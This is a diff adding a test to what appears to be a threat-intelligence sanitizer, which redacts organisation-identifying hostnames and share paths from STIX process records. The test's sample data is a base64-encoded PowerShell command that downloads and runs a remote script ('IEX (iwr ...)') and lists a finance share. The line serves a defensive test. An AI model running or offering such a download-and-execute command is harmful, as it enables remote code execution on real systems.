@@ -3,6 +3,7 @@ archive, its relay's queue id and remote-access ids are indicators, not the memb
 
 from __future__ import annotations
 
+import base64
 import json
 from typing import Any
 
@@ -152,3 +153,30 @@ def test_a_remote_access_id_is_kept_and_a_phone_extension_goes(number: int) -> N
     assert spaced in out
     assert f"内線 {number % 10000:04d}" not in out
     assert f"ext. {number % 1000:03d}" not in out
+
+
+def test_an_encoded_powershell_command_is_redacted_inside_and_still_decodes() -> None:
+    script = "IEX (iwr 'https://cdn.grey-plover.net/s.ps1'); dir \\\\hkd-fs-srv09\\keiri$\\2025"
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    profile = MemberProfile(
+        member_key="hkd", names=PROFILE.names, hostname_patterns=("hkd-*-srv[0-9][0-9]",)
+    )
+    proc = {
+        "type": "process",
+        "spec_version": "2.1",
+        "id": oid("process", 1),
+        "command_line": f"powershell.exe -NoP -enc {encoded}",
+    }
+    me = {
+        **SDO,
+        "type": "identity",
+        "id": ME,
+        "name": "Hakodate Ropeway Energy",
+        "identity_class": "organization",
+    }
+    result = sanitize([me, proc], profile, Policy(), secret=SECRET, hub_identity=HUB, sector=SECTOR)
+    line = next(o["command_line"] for o in result.objects if o["type"] == "process")
+    decoded = base64.b64decode(line.rsplit(" ", 1)[1]).decode("utf-16-le")
+    assert "hkd-fs-srv09" not in decoded and "keiri$" not in decoded
+    assert "https://cdn.grey-plover.net/s.ps1" in decoded
+    assert line.startswith("powershell.exe -NoP -enc ")
